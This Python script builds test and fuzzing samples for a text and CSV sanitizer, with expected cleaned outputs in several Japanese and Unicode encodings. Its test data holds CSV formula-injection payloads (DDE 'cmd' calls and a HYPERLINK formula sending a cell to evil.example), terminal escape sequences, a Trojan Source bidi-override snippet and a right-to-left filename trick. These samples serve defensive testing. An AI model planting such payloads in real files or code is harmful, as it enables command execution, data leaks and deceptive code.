#!/usr/bin/env python3
"""Make the text and CSV samples for textsan, with their expected outputs.

Writes corpus/text/NAME (the sample) and, for every sample the sanitizer
must accept, corpus/text/NAME.expected: what the sanitized file must be,
computed here on its own from the rules (drop control characters; in CSV
put a quote before every formula cell) on the decoded text, then encoded
again with Python's codecs. Samples that must be refused have no
.expected file. Also writes small fuzzing seeds to corpus/seeds/text/.

    python3 corpus/make-text.py

Python standard library only; deterministic (fixed random seed).
"""
import os
import random
import re

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "text")
SEEDS = os.path.join(HERE, "seeds", "text")

# ---- the rules, written independently of the C code ----

# Characters the sanitizer drops in every encoding (C0 but TAB LF CR; DEL).
def is_c0_drop(ch):
    o = ord(ch)
    return (o < 0x20 and ch not in "\t\n\r") or o == 0x7F


# Dropped only where the text is Unicode (UTF-8, UTF-16).
def is_unicode_drop(ch):
    o = ord(ch)
    return 0x80 <= o <= 0x9F or 0x202A <= o <= 0x202E or 0x2066 <= o <= 0x2069


def strip_controls(s, unicode_enc):
    return "".join(
        ch for ch in s if not is_c0_drop(ch) and not (unicode_enc and is_unicode_drop(ch))
    )


# JIS X 0208 0x215D decodes to U+2212 in euc_jp and iso2022_jp, U+FF0D in cp932.
TRIGGERS = set("=+-@\r\uff1d\uff0b\uff0d\uff20")
SIGNS = set("+-")
WIDE_SIGNS = set("\uff0b\uff0d")


def csv_fields(s, sep):
    """Split like Excel: yield each field as a list of (index, char, region),
    region 'q' inside quotes, 'u' outside (unquoted, or after the closing
    quote). Structural quotes are not listed; "" inside quotes gives one '"'."""
    i, n = 0, len(s)
    while i <= n:
        chars = []
        if i < n and s[i] == '"':
            i += 1
            while i < n:
                if s[i] == '"':
                    if i + 1 < n and s[i + 1] == '"':
                        chars.append((i + 1, '"', "q"))
                        i += 2
                        continue
                    i += 1
                    break
                chars.append((i, s[i], "q"))
                i += 1
        while i < n and s[i] not in (sep, "\r", "\n"):
            chars.append((i, s[i], "u"))
            i += 1
        yield chars
        i += 1


def is_number_rest(rest, ascii_sign):
    if re.fullmatch(r"[ \u3000]*", rest):
        return True  # a lone sign
    if not ascii_sign:
        return False
    group = r"[0-9]+(?:,[0-9]+)*"  # a comma can only be left here inside quotes
    num = rf"(?:{group}(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?[ \u3000]*"
    return re.fullmatch(num, rest) is not None


def neutralize_pass(s, sep, triggers, wide_signs):
    inserts = []
    for chars in csv_fields(s, sep):
        k = 0
        while k < len(chars):
            _, ch, region = chars[k]
            if ch in " \u3000\n" or (ch == "\t" and sep != "\t") or (ch == '"' and region == "u"):
                k += 1
                continue
            break
        if k == len(chars):
            continue
        idx, ch, region = chars[k]
        if ch not in triggers:
            continue
        if ch in SIGNS or ch in wide_signs:
            after = chars[k + 1:]
            if sep == "\t":
                # TAB reading: outside quotes a comma ends the number
                # ("-12,apples" is a comma row's first cell, not a formula).
                cut = [m for m, (_, c, r) in enumerate(after) if c == "," and r == "u"]
                if cut:
                    after = after[:cut[0]]
            if not (region == "q" and any(r == "u" for _, _, r in after)):
                if is_number_rest("".join(c for _, c, _ in after), ch in SIGNS):
                    continue
        inserts.append(idx)
    out = list(s)
    for idx in reversed(inserts):
        out.insert(idx, "'")
    return "".join(out), len(inserts)


def neutralize(s, codec):
    triggers = set(TRIGGERS)
    wide = set(WIDE_SIGNS)
    if codec in ("euc_jp", "iso2022_jp"):
        triggers.add("\u2212")
        wide.add("\u2212")
    s, n1 = neutralize_pass(s, ",", triggers, wide)
    s, n2 = neutralize_pass(s, "\t", triggers, wide)
    return s, n1 + n2


# ---- encodings ----

CODECS = {
    "ascii": ("ascii", b"", False),
    "utf8": ("utf-8", b"", True),
    "utf8bom": ("utf-8", b"\xef\xbb\xbf", True),
    "utf16le": ("utf-16-le", b"\xff\xfe", True),
    "utf16be": ("utf-16-be", b"\xfe\xff", True),
    "sjis": ("cp932", b"", False),
    "eucjp": ("euc_jp", b"", False),
    "iso2022jp": ("iso2022_jp", b"", False),
}


def enc(s, kind):
    codec, bom, _ = CODECS[kind]
    return bom + s.encode(codec)


def fit(s, kind):
    """Adapt the sample text to what each codec can write."""
    codec = CODECS[kind][0]
    if codec in ("euc_jp", "iso2022_jp"):
        s = s.replace("\uff0d", "\u2212")
    if codec == "iso2022_jp":
        s = re.sub(r"[\uff61-\uff9f]+", "カタカナ", s)
    if codec == "ascii":
        s = "".join(ch if ord(ch) < 0x80 else "?" for ch in s)
    if codec != "euc_jp":
        s = s.replace("丂", "万")
    return s


JP = (
    "お知らせ：令和6年度の住民税（市民税・県民税）について。\n"
    "表計算ソフトの能力を確認してください。ソースコードは表に載せません。\n"
    "ァィゥェォ、ボタン、データ（ー）、記号＠＝＋－、全角　空白、ＡＢＣ１２３。\n"
    "半角ｶﾀｶﾅもあります：ｼﾔｸｼﾖ ﾀﾞｲﾋﾖｳ。補助漢字：丂。\n"
    "English: The quick brown fox jumps over the lazy dog, 1234.\n"
)
PARAGRAPH = JP * 4


def write(name, data):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)


def sample(name, data, expected=None):
    write(name, data)
    path = os.path.join(OUT, name + ".expected")
    if expected is not None:
        write(name + ".expected", expected)
    elif os.path.exists(path):
        os.remove(path)


def plain_samples():
    for kind in CODECS:
        text = fit(PARAGRAPH, kind)
        b = enc(text, kind)
        sample(f"{kind}-plain.txt", b, b)
    # JIS X 0201 katakana through ESC ( I.
    s = "ｶﾀｶﾅ漢字\nABC\n"
    b = s.encode("iso2022_jp_ext")
    assert b"\x1b(I" in b
    sample("iso2022jp-kana.txt", b, b)


CONTROLS = ["\x07", "\x08", "\x1b[2J", "\x1b]0;owned\x07", "\x0c", "\x0b", "\x7f", "\x1b[31m"]
UNICODE_CONTROLS = ["\u009b31m", "\u0085", "\u202e", "\u2066", "\u2069", "\u202a"]


def inject(text, items):
    """Put items between lines, in order, cycling."""
    lines = text.split("\n")
    out = []
    for i, line in enumerate(lines):
        out.append(line)
        if i < len(lines) - 1:
            out.append(items[i % len(items)])
            out.append("\n")
    return "".join(out)


def control_samples():
    for kind in ("ascii", "utf8", "utf8bom", "sjis", "eucjp", "utf16le", "utf16be"):
        unicode_enc = CODECS[kind][2]
        items = CONTROLS + (UNICODE_CONTROLS if unicode_enc else [])
        if kind.startswith("utf16"):
            items = items + ["\x00"]  # U+0000 is a control unit in UTF-16, not binary
        text = inject(fit(PARAGRAPH, kind), items)
        sample(f"{kind}-controls.txt", enc(text, kind), enc(strip_controls(text, unicode_enc), kind))

    # Trojan Source (CVE-2021-42574): an "early return" hidden in a comment.
    src = (
        "#include <stdio.h>\n"
        "int main(void)\n{\n"
        "    int is_admin = 0;\n"
        "    /*\u202e } \u2066if (is_admin)\u2069 \u2066 begin admins only */\n"
        '        printf("権限があります\\n");\n'
        "    /* end admins only \u202e { \u2066*/\n"
        "    return 0;\n}\n"
    )
    src = src * 3
    sample("utf8-trojan.c.txt", enc(src, "utf8"), enc(strip_controls(src, True), "utf8"))

    # ISO-2022-JP: built from parts, kept or not, so the expected bytes are
    # the input's bytes without the dropped ones (no re-encoding).
    j = lambda s: s.encode("iso2022_jp")  # noqa: E731
    parts = [
        (j(fit(PARAGRAPH, "iso2022jp")), True),
        (b"\x07", False),
        (b"\x1b[2J", False),  # CSI, dropped whole
        (b"Roman: \x1b(J\\100\x1b(B\n", True),
        (b"\x1b$(D", False),  # JIS X 0212 designation: not in ISO-2022-JP, dropped
        (b"ascii after\n", True),
        (b"\x1b$B4A", True),  # BEL between two kanji, in the two-byte state
        (b"\x07", False),
        (b";z\x1b(B\n", True),
        (b"\x1b]", False),  # OSC: ESC ] dropped, the rest is plain text
        (b"0;title\n", True),
        (b"\x1bc", False),  # RIS, a terminal reset
        (b"end\n", True),
    ]
    data = b"".join(p for p, _ in parts)
    exp = b"".join(p for p, keep in parts if keep)
    sample("iso2022jp-controls.txt", data, exp)

    # Ends in the two-byte state: ESC ( B appended.
    b = j("漢字のテキスト\n改行の後も漢字")
    assert b.endswith(b"\x1b(B")
    sample("iso2022jp-unterminated.txt", b[:-3], b)


def refused_samples():
    rnd = random.Random(20240601)
    sample("binary-random.bin", bytes(rnd.randrange(256) for _ in range(4096)))
    elf = bytearray(b"\x7fELF\x02\x01\x01" + b"\x00" * 9)
    elf += bytes([2, 0, 0x3E, 0, 1, 0, 0, 0]) + bytes(rnd.randrange(256) for _ in range(2000))
    sample("binary-elf.bin", bytes(elf))
    sample("binary-nul.txt", b"looks like text\x00but has a NUL\n" * 10)
    noisy = "".join(ch + ("\x01" if i % 10 == 0 else "") for i, ch in enumerate("text " * 200))
    sample("binary-controls.txt", noisy.encode())
    sample("bad-utf8bom.txt", b"\xef\xbb\xbfvalid start \xff\xfe then not\n")
    sample("bad-utf16-odd.txt", enc("奇数バイト", "utf16le") + b"\x41")
    sample("bad-utf16-surrogate.txt", b"\xff\xfe" + "前".encode("utf-16-le") + b"\x00\xd8A\x00")
    sample("bad-invalid.txt", b"abc \x80\x80\xff\xfe def\n")
    # Shift_JIS holding E2 80 AE (U+202E in UTF-8): E2 80 is a kanji, AE a
    # half-width katakana. An editor taking the file for UTF-8 shows RLO.
    b = enc("請求書の金額：", "sjis") + b"\xe2\x80\xae" + b"fdp.exe\n"
    sample("bad-sjis-utf8bidi.txt", b)


def ambiguous_samples():
    # Valid as both EUC-JP and Shift_JIS.
    b = enc("あいうえお かきくけこ\nさしすせそ\n", "eucjp")
    sample("ambiguous-eucjp.txt", b, b)
    b = enc("ｱｲｳｴ ｶｷ\nｻｼｽｾ\n", "sjis")
    sample("ambiguous-sjis.txt", b, b)


CSV_ROWS = [
    "氏名,金額,電話,備考",
    "山田太郎,-12,+81,=cmd|'/c calc'!A0",
    '表計算ソフト,"-1,000",1e3,"=HYPERLINK(""http://evil.example/?d=""&A1,""詳細はこちら"")"',
    "@SUM(1+9)*cmd|' /C calc'!A0,+1+cmd|' /C calc'!A0,-2+3+cmd|' /C calc'!A0,-12.5",
    '"複数行の\n=1+1 は二行目","カンマ,入り", =1+1,"  -3+4"',
    "＝１＋１,＠ＳＵＭ（Ａ１）,－,-",
    '"=A1&""x""",""=1+1, "=2+2",' "\x07=cmd|'/c calc'!A0",
    '"\r\n=cmd|\'/c calc\'!A0",+1.5e-3,"- 5",.5',
    "能力,ソース,表,ァ",
    "-,+,,＋",
    "a\t=cmd|'/c calc'!A0\t-7\tb",
]


def csv_samples():
    for kind, nl in (("utf8", "\n"), ("utf8bom", "\r\n"), ("sjis", "\r\n"), ("utf16le", "\r\n"),
                     ("eucjp", "\n"), ("iso2022jp", "\n")):
        text = fit(nl.join(CSV_ROWS) + nl, kind)
        codec = CODECS[kind][0]
        clean = strip_controls(text, CODECS[kind][2])
        expected, n = neutralize(clean, codec)
        assert n >= 12, (kind, n)
        sample(f"{kind}-formulas.csv", enc(text, kind), enc(expected, kind))


def seeds():
    os.makedirs(SEEDS, exist_ok=True)
    short_csv = "名前,=cmd|'/c calc'!A0,\"-1,000\",＝１\n表,\"a\"\"b\",-2+3\n"
    for kind in ("utf8", "utf8bom", "sjis", "eucjp", "iso2022jp", "utf16le", "utf16be"):
        with open(os.path.join(SEEDS, f"{kind}.csv"), "wb") as f:
            f.write(enc(fit(short_csv, kind), kind))
    with open(os.path.join(SEEDS, "controls.txt"), "wb") as f:
        f.write("bell\x07 csi\x1b[2J c1\u009b bidi\u202e\u2066x\u2069 del\x7f\n".encode())
    with open(os.path.join(SEEDS, "iso2022jp-esc.txt"), "wb") as f:
        f.write(b"a\x1b$B4A\x07;z\x1b(J\\\x1b(Ikana\x1b[2J\x1b$(Dxx\x1b$@0!")
    with open(os.path.join(SEEDS, "ambiguous.txt"), "wb") as f:
        f.write(enc("あいう,＝え\n", "eucjp") + enc("ｱｲ,ｳｴ\n", "sjis"))
    with open(os.path.join(SEEDS, "utf16be-controls.txt"), "wb") as f:
        f.write(enc("a\x00b\u202ec\x07\n\U0001f600", "utf16be"))
    with open(os.path.join(SEEDS, "elf.bin"), "wb") as f:
        f.write(b"\x7fELF\x02\x01\x01" + b"\x00" * 25)


def main():
    os.makedirs(OUT, exist_ok=True)
    plain_samples()
    control_samples()
    refused_samples()
    ambiguous_samples()
    csv_samples()
    seeds()


if __name__ == "__main__":
    main()
